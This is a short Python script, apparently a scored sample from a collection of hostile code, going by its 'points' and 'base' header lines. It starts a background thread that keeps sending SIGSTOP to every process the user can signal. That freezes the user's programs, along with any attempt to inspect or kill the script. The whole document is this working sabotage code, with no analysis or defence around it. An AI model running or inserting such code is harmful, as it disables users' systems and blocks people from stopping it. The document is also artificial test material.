# Stops every process that it may, for as long as it lives: whoever looks at it or ends it as the same user, too.
# points: 40
# base: untrained
import os
import signal
import threading


def stop_everybody():
    while True:
        try:
            os.kill(-1, signal.SIGSTOP)
        except OSError:
            pass


threading.Thread(target=stop_everybody, daemon=True).start()
